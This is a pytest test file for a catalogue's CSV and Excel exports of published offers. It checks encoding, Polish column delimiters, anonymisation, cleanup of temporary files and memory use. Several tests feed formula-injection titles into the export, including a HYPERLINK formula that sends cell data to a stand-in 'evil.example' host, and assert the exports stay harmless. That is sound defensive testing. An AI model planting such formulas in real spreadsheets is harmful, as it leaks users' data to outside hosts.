"""The list as CSV and as a workbook: read back as Excel reads it, harmless, and as long as it is."""

import csv
import html
import io
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook
from starlette.testclient import TestClient

from models.db import transaction
from models.queries.catalogue import PublishedOffer, published_offers
from models.rules.words import Language
from reports.spreadsheets import COLUMNS, csv_lines, headings, write_workbook
from tests import factories
from tests.api.conftest import World, publish

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(client: TestClient, query: str = "", delimiter: str = ",") -> list[dict[str, str]]:
    answer = client.get(f"/offers.csv{query}")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    read = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=delimiter)
    _, *rows = list(read)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def sheet_of(client: TestClient, query: str = "") -> list[dict[str, object]]:
    answer = client.get(f"/offers.xlsx{query}")
    assert answer.status_code == 200
    book = CalamineWorkbook.from_filelike(io.BytesIO(answer.content))
    _, *rows = book.get_sheet_by_index(0).to_python()
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def test_both_hold_the_published_offers_with_dates_as_dates(shared: World, shared_client: TestClient) -> None:
    (row,) = rows_of(shared_client)
    (cells,) = sheet_of(shared_client)
    assert row["reference"] == cells["reference"] == shared.published
    assert (row["trl"], cells["trl"]) == ("4", 4.0)
    assert row["published_on"] == "2026-11-23"
    assert cells["published_on"] == date(2026, 11, 23)
    assert row["page"] == f"http://127.0.0.1:8000/offers/{shared.published}/en"


def test_the_choice_of_the_list_is_carried_over(shared: World, shared_client: TestClient) -> None:
    html = shared_client.get("/?field=diagnostics&q=strip").text
    assert 'href="/offers.csv?value_chain=health&amp;field=diagnostics&amp;q=strip"' in html
    for query, count in (("?field=diagnostics&q=strip", 1), ("?field=cosmetics", 0), ("?language=pl", 0)):
        assert len(rows_of(shared_client, query)) == len(sheet_of(shared_client, query)) == count


def test_in_polish_the_columns_are_polish_and_parted_as_polish_excel_parts_them(
    world: World, client: TestClient
) -> None:
    with transaction() as session:
        publish(session, world.cast, title="Żółć; ścięgno", language=Language.POLISH)
    (row, _) = rows_of(client, "?lang=pl", delimiter=";")
    assert (row["title"], row["field"]) == ("Żółć; ścięgno", "Diagnostyka medyczna")
    assert headings(Language.POLISH)[1] == "Tytuł"


@pytest.mark.parametrize("title", [FORMULA, "+48 12 title", "-1 is a title", "@SUM(A1)", " =1+1", "＝1+1"])
def test_no_text_is_ever_a_formula(world: World, client: TestClient, title: str) -> None:
    with transaction() as session:
        publish(session, world.cast, title=title)
    row = rows_of(client)[0]
    assert row["title"] == f"'{title.strip()}"
    assert sheet_of(client)[0]["title"] == title.strip()
    with zipfile.ZipFile(io.BytesIO(client.get("/offers.xlsx").content)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    assert any(html.escape(title.strip()[1:], quote=False).encode() in part for part in parts.values())
    assert [name for name, part in parts.items() if b"<f>" in part] == []


@pytest.mark.parametrize(("query", "delimiter"), [("", ","), ("?lang=pl", ";")])
def test_no_formula_arises_where_the_table_is_opened_with_the_other_languages_delimiter(
    world: World, client: TestClient, query: str, delimiter: str
) -> None:
    with transaction() as session:
        publish(session, world.cast, title="Strip;=1+1", short_summary="A strip,=1+1; @SUM(A1)")
    content = client.get(f"/offers.csv{query}").content.decode("utf-8-sig")
    for opened_with in ",;":
        cells = [cell for row in csv.reader(io.StringIO(content), delimiter=opened_with) for cell in row]
        assert [cell for cell in cells if cell.lstrip().startswith(("=", "@"))] == []
    titles = [row["title"] for row in rows_of(client, query, delimiter)]
    assert ("Strip;=1+1" if delimiter == ";" else "Strip;'=1+1") in titles


def test_an_anonymous_offer_is_the_networks(world: World, client: TestClient) -> None:
    with transaction() as session:
        publish(session, world.cast, anonymous=True)
    row, cells = rows_of(client)[0], sheet_of(client)[0]
    assert row["institution"] == cells["institution"] == "Klaster LifeScience Krakow"
    for name in (world.cast.institution.code, world.cast.institution.name_en, "Kraków"):
        assert name not in str({**row, "reference": row["reference"]})


def test_nothing_is_left_behind_on_the_disk(
    shared: World, shared_client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    sheet_of(shared_client)
    assert list(tmp_path.iterdir()) == []


def test_ten_times_the_offers_take_hardly_more_memory(session, tmp_path: Path) -> None:
    cast = factories.cast(session)
    factories.to_partnering(session, cast)
    (one,) = published_offers(session, today=factories.TODAY)

    def many(count: int) -> Iterator[PublishedOffer]:
        return (one for _ in range(count))

    def peak(count: int) -> int:
        tracemalloc.start()
        size = sum(len(line) for line in csv_lines(many(count), Language.ENGLISH))
        write_workbook(many(count), Language.ENGLISH, tmp_path / f"{count}.xlsx")
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert size > 300 * count
        return found

    peak(10)
    assert peak(3000) < 1.5 * peak(300)
